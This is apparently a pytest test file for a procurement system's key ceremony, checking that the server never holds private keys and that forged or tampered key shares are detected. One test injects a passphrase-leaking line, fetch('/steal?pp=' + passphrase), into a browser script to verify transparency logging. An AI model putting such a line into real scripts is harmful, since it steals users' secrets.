"""The key ceremony off the server (R-9.9, R-9.2), played as the attacker of issue 12 who holds
the database, the files and the server's code: the server made each tender's key at publication
and held every member's opening key while they unlocked. Now the key is made and split on a
member's device, only shares travel back, and every share is checked and named.
"""

from __future__ import annotations

import ast
import base64
import json
from pathlib import Path

import pytest
import time_machine
from pyrage import x25519

from lpse.accounts.selectors import demo_password
from lpse.bids import keys, offline, opening_keys
from lpse.bids.models import KeyShare, OpenedBid, TenderKey
from lpse.bids.services import opening, tender_keys
from lpse.bids.services.opening_keys import opening_key_set
from lpse.core.errors import DomainError
from lpse.tenders.services import preparation
from tests.bid_fixtures import AT_OPENING, DURING_BIDDING, seal, submit
from tests.tender_fixtures import PREPARED_AT, draft_tender

pytestmark = pytest.mark.django_db
SRC = Path(__file__).resolve().parents[1] / "src" / "lpse"


def _share_text(bidding, member, *, tender=None) -> str:
    tender = tender or bidding.tender
    share = KeyShare.objects.get(tender_key__tender=tender, member=member)
    return keys.opened_share_text(share.sealed, bidding.setup.identity_of(member))


def _ready_to_publish(setup):
    with time_machine.travel(PREPARED_AT, tick=False):
        tender = draft_tender(setup)
        from django.core.files.uploadedfile import SimpleUploadedFile

        preparation.document_add(
            actor=setup.members[0],
            tender=tender,
            title="Dokumen Tender",
            upload=SimpleUploadedFile("dok.pdf", b"%PDF-1.4 x"),
        )
        for user in [setup.ppk, *setup.members]:
            preparation.pact_sign(actor=user, tender=tender)
    return tender


def test_R_9_9_key_never_on_the_server_publication_needs_a_key_made_on_a_device(agency_a):
    """Before: publication generated the tender's private key on the server. Now the web app
    makes none: publishing without a key from a member's device is refused, and what is stored
    holds no private key."""
    tender = _ready_to_publish(agency_a)
    with (
        time_machine.travel(PREPARED_AT, tick=False),
        pytest.raises(DomainError, match="has no bid key yet"),
    ):
        preparation.tender_publish(actor=agency_a.members[0], tender=tender)
    assert not TenderKey.objects.filter(tender=tender).exists()
    with time_machine.travel(PREPARED_AT, tick=False):
        offline.make_tender_key(actor=agency_a.members[0], tender=tender, offline=False)
        preparation.tender_publish(actor=agency_a.members[0], tender=tender)
    stored = json.dumps(
        list(TenderKey.objects.values()) + list(KeyShare.objects.values()), default=str
    )
    assert "AGE-SECRET-KEY" not in stored
    assert TenderKey.objects.get(tender=tender).origin == TenderKey.Origin.BROWSER


def test_R_9_9_key_never_on_the_server_no_web_module_can_make_or_open_a_key():
    """The only code that makes a tender key or opens a share is device-side: the CLI, the demo
    loader and lpse.bids.offline. No view, service or task module reaches it."""
    device_side = {
        "keys.generate",
        "offline.make_tender_key",
        "offline.unlock_share",
        "keys.opened_share_text",
        "keys.unseal_share",
        "Identity.generate",
        "opening_keys.seal_new_identity",
        "opening_keys.open_identity",
    }
    allowed = {
        "bids/keys.py",
        "bids/apendo_keys.py",
        "bids/offline.py",
        "bids/opening_keys.py",
        "bids/management/commands/apendo.py",
        "demo/tenders.py",
    }
    offenders = []
    for path in SRC.rglob("*.py"):
        rel = path.relative_to(SRC).as_posix()
        if rel in allowed or "/migrations/" in rel:
            continue
        for node in ast.walk(ast.parse(path.read_text())):
            if isinstance(node, ast.Attribute) and isinstance(node.value, ast.Name | ast.Attribute):
                base = node.value.id if isinstance(node.value, ast.Name) else node.value.attr
                if f"{base}.{node.attr}" in device_side:
                    offenders.append(f"{rel}: {base}.{node.attr}")
            imports_offline = isinstance(node, ast.ImportFrom) and (
                node.module == "lpse.bids.offline"
                or (node.module == "lpse.bids" and any(a.name == "offline" for a in node.names))
            )
            if imports_offline:
                offenders.append(f"{rel}: imports lpse.bids.offline")
    assert offenders == []


def test_R_9_9_passphrase_never_sent_no_form_has_a_field_for_a_secret(client, agency_a):
    """The forms the ceremony pages post have no field for a passphrase, an identity or a key;
    a passphrase posted anyway is ignored, never used."""
    from lpse.bids.forms import OpeningKeyForm, TenderKeyForm, UnlockForm

    fields = {*OpeningKeyForm.base_fields, *TenderKeyForm.base_fields, *UnlockForm.base_fields}
    assert not {f for f in fields if "pass" in f or ("identity" in f and f != "sealed_identity")}
    member = agency_a.members[0]
    client.force_login(member)
    page = client.get("/kelola/kunci-pembuka/").content.decode()
    assert 'id="pp1"' in page and 'name="passphrase"' not in page and 'name="pp1"' not in page


def test_R_9_9_a_share_from_another_tender_is_refused_and_named(bidding, make_user):
    other = _ready_to_publish(bidding.setup)
    with time_machine.travel(PREPARED_AT, tick=False):
        offline.make_tender_key(actor=bidding.setup.members[0], tender=other)
    member = bidding.setup.members[0]
    with (
        time_machine.travel(AT_OPENING, tick=False),
        pytest.raises(
            DomainError, match=f"belongs to tender {other.code}, not {bidding.tender.code}"
        ),
    ):
        opening.share_unlock(
            actor=member, tender=bidding.tender, share=_share_text(bidding, member, tender=other)
        )


def test_R_9_9_a_tampered_share_is_refused_and_named(bidding):
    member = bidding.setup.members[1]
    payload = json.loads(_share_text(bidding, member))
    value = bytearray(base64.b64decode(payload["share"]))
    value[0] ^= 0x01
    payload["share"] = base64.b64encode(bytes(value)).decode()
    index = KeyShare.objects.get(tender_key__tender=bidding.tender, member=member).index
    with (
        time_machine.travel(AT_OPENING, tick=False),
        pytest.raises(DomainError, match=f"Share {index} does not match what was recorded"),
    ):
        opening.share_unlock(actor=member, tender=bidding.tender, share=json.dumps(payload))
    for garbage in ["", "{}", "not json", json.dumps({"format": "x"})]:
        with (
            time_machine.travel(AT_OPENING, tick=False),
            pytest.raises(DomainError, match="not a key share"),
        ):
            opening.share_unlock(actor=member, tender=bidding.tender, share=garbage)


def test_R_9_9_a_sealed_share_swapped_in_the_database_is_named_at_the_unlock(bidding):
    """The attacker re-seals a share of their own making to the member and rewrites the row
    (sealed file and commitment): the row no longer matches the audit log entry that recorded
    the shares' hashes at publication."""
    member = bidding.setup.members[2]
    share = KeyShare.objects.get(tender_key__tender=bidding.tender, member=member)
    forged_value = b"\x07" * 33
    payload = keys.share_payload(
        tender_code=bidding.tender.code,
        recipient=bidding.recipient,
        index=share.index,
        threshold=3,
        value=forged_value,
    )
    import pyrage

    share.sealed = base64.b64encode(
        pyrage.encrypt(payload.encode(), [x25519.Recipient.from_str(share.member_recipient)])
    ).decode()
    share.commitment = keys.share_commitment(
        tender_code=bidding.tender.code,
        recipient=bidding.recipient,
        index=share.index,
        value=forged_value,
    )
    share.save()
    with (
        time_machine.travel(AT_OPENING, tick=False),
        pytest.raises(DomainError, match=f"Share {share.index} .* was changed in the database"),
    ):
        offline.unlock_share(
            member=member, tender=bidding.tender, identity=bidding.setup.identity_of(member)
        )


def test_R_9_9_an_unlocked_share_changed_before_the_opening_stops_it_and_names_it(bidding):
    first, second, third = bidding.setup.members[:3]
    with time_machine.travel(AT_OPENING, tick=False):
        for member in (first, second):
            offline.unlock_share(
                member=member, tender=bidding.tender, identity=bidding.setup.identity_of(member)
            )
        unlock = opening.opening_of(bidding.tender).unlocks.get(share__member=second)
        unlock.value = base64.b64encode(b"\x00" * 33).decode()
        unlock.save(update_fields=["value"])
        with pytest.raises(DomainError, match="was changed in the database after it was unlocked"):
            offline.unlock_share(
                member=third, tender=bidding.tender, identity=bidding.setup.identity_of(third)
            )


def test_R_9_9_the_demo_passwords_are_refused_outside_demo_mode(agency_a, settings):
    member = agency_a.members[0]
    from django.contrib.auth import get_user_model

    get_user_model().objects.filter(pk=member.pk)  # a member without shares yet
    recipient, sealed = opening_keys.seal_new_identity(demo_password("committee"))
    settings.LPSE_DEMO = False
    with pytest.raises(DomainError, match="one of the published demo passwords"):
        opening_key_set(actor=member, recipient=recipient, sealed_identity=sealed)
    settings.LPSE_DEMO = True
    assert opening_key_set(actor=member, recipient=recipient, sealed_identity=sealed).recipient
    settings.LPSE_DEMO = False
    recipient, sealed = opening_keys.seal_new_identity("kuda-lumping menari di Maros 1987")
    assert opening_key_set(actor=member, recipient=recipient, sealed_identity=sealed)


def test_R_9_9_a_server_made_key_is_marked_and_replaced_while_no_bid_has_arrived(bidding, client):
    key = bidding.tender.bid_key
    TenderKey.objects.filter(pk=key.pk).update(origin=TenderKey.Origin.SERVER)
    page = client.get(f"/tender/{bidding.tender.code}/").content.decode()
    assert "the server saw this key" in page
    member = bidding.setup.members[0]
    with time_machine.travel(DURING_BIDDING, tick=False):
        new = offline.make_tender_key(actor=member, tender=bidding.tender, offline=False)
    assert new.origin == TenderKey.Origin.BROWSER and new.recipient != key.recipient
    from lpse.core.models import AuditEvent

    event = AuditEvent.objects.filter(action="tender_key.rekey").get()
    assert event.data["replaces"] == key.recipient
    with time_machine.travel(DURING_BIDDING, tick=False):
        submit(bidding.provider, bidding.tender, seal(new.recipient, bidding.tender.code))
        with pytest.raises(DomainError, match="can no longer be replaced"):
            offline.make_tender_key(actor=member, tender=bidding.tender)
    assert tender_keys.rekey_blocker(bidding.tender)


def test_R_9_2_a_single_official_key_k1_opens_with_one_share(agency_a):
    """k = 1: shamir-secret-sharing needs k ≥ 2, so each member holds W itself."""
    recipients = [m.opening_key.recipient for m in agency_a.members]
    material = keys.generate(tender_code="T1", threshold=1, member_recipients=recipients)
    member = agency_a.members[1]
    sealed = next(s for s in material.shares if s.member_recipient == member.opening_key.recipient)
    share = keys.unseal_share(sealed.sealed, agency_a.identity_of(member))
    identity = keys.combine(
        [share],
        tender_code="T1",
        recipient=material.recipient,
        wrapped_identity=material.wrapped_identity,
    )
    assert str(identity.to_public()) == material.recipient


def test_R_9_2_a_key_file_for_another_tender_or_malformed_is_refused(agency_a):
    tender = _ready_to_publish(agency_a)
    recipients = sorted(
        (m.opening_key.recipient for m in agency_a.members),
    )
    other = keys.generate(tender_code="2099000001", threshold=2, member_recipients=recipients)
    with pytest.raises(DomainError, match="made for tender 2099000001"):
        tender_keys.tender_key_import(
            actor=agency_a.members[0], tender=tender, material_json=other.to_json()
        )
    data = json.loads(other.to_json())
    data["tender"] = tender.code
    data["shares"][0]["commitment"] = "abc"
    with pytest.raises(DomainError, match="malformed"):
        tender_keys.tender_key_import(
            actor=agency_a.members[0], tender=tender, material_json=json.dumps(data)
        )
    with pytest.raises(DomainError, match="not an LPSE tender key file"):
        tender_keys.tender_key_import(actor=agency_a.members[0], tender=tender, material_json="{}")


def test_R_9_9_the_unlock_page_posts_only_the_share_and_the_bids_open(bidding, client):
    """Through the web form, as the browser sends it: the share field only."""
    with time_machine.travel(AT_OPENING, tick=False):
        for member in bidding.setup.members[:3]:
            client.force_login(member)
            page = client.get(f"/kelola/tender/{bidding.tender.code}/pembukaan/")
            inputs = page.context["unlock_inputs"]
            assert inputs["sealed_share"] and "AGE-SECRET-KEY" not in json.dumps(inputs)
            text = keys.opened_share_text(inputs["sealed_share"], bidding.setup.identity_of(member))
            response = client.post(
                f"/kelola/tender/{bidding.tender.code}/pembukaan/", {"share": text}
            )
            assert response.status_code == 302
    assert opening.opening_of(bidding.tender).state == "opened"
    assert OpenedBid.objects.filter(bid__tender=bidding.tender).count() == 0  # no bids: opened


def test_R_9_9_a_changed_browser_script_enters_the_transparency_log(settings, tmp_path, client):
    """Code on the live server could serve a script that leaks a passphrase: it can, but not
    unseen — the SHA-256 of every key-handling script is logged whenever it changes."""
    import shutil

    from lpse.core import browser_code
    from lpse.core.models import AuditEvent

    static = tmp_path / "static"
    shutil.copytree(Path(settings.STATICFILES_DIRS[0]), static)
    settings.STATICFILES_DIRS = [static]
    assert browser_code.record_if_changed() is True
    assert browser_code.record_if_changed() is False  # unchanged: nothing new
    page = client.get("/transparansi/").content.decode()
    assert browser_code.current_hashes()["lpse/key-ceremony.js"] in page
    script = static / "lpse" / "key-ceremony.js"
    script.write_text(script.read_text() + "\nfetch('/steal?pp=' + passphrase);\n")
    assert "not yet logged" in client.get("/transparansi/").content.decode()
    assert browser_code.record_if_changed() is True
    changed = AuditEvent.objects.filter(action="browser_code.changed").order_by("seq")
    assert changed.count() == 2
    first, second = (e.data["scripts"]["lpse/key-ceremony.js"] for e in changed)
    assert first != second


def test_R_9_9_a_member_can_open_their_share_offline_and_paste_it(bidding, tmp_path, client):
    """The defence against a malicious script from a live server: the offline tool opens the
    member's sealed share, and the page takes the pasted share."""
    from io import StringIO

    from django.core.management import call_command

    member = bidding.setup.members[0]
    mine = KeyShare.objects.get(tender_key__tender=bidding.tender, member=member)
    (tmp_path / "share.txt").write_text(mine.sealed)
    (tmp_path / "key.txt").write_text("# created: today\n" + bidding.setup.identity_of(member))
    out = StringIO()
    call_command(
        "apendo",
        "open-share",
        str(tmp_path / "share.txt"),
        "--identity",
        str(tmp_path / "key.txt"),
        stdout=out,
        stderr=StringIO(),
    )
    text = out.getvalue().strip()
    assert keys.parse_share(text).index == mine.index
    client.force_login(member)
    with time_machine.travel(AT_OPENING, tick=False):
        response = client.post(f"/kelola/tender/{bidding.tender.code}/pembukaan/", {"share": text})
    assert response.status_code == 302
    assert opening.opening_of(bidding.tender).unlocks.count() == 1
    other = bidding.setup.members[1]
    (tmp_path / "other.txt").write_text(bidding.setup.identity_of(other))
    from django.core.management.base import CommandError

    with pytest.raises(CommandError, match="does not unlock this share"):
        call_command(
            "apendo",
            "open-share",
            str(tmp_path / "share.txt"),
            "--identity",
            str(tmp_path / "other.txt"),
            stdout=StringIO(),
            stderr=StringIO(),
        )
